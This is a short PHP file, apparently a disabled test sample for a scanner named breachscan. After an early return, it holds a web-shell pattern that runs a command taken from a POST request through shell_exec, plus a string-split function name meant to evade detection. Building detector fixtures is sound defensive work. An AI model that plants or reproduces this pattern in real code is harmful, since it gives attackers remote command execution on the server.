<?php
// synthetic test sample for breachscan: command taken from the request into a variable, then
// run with shell_exec (string-split function name through a variable). Disabled.
return;
$c = $_POST['command'];
$f = 'shell' . '_exec';
echo shell_exec($c . ' 2>&1');
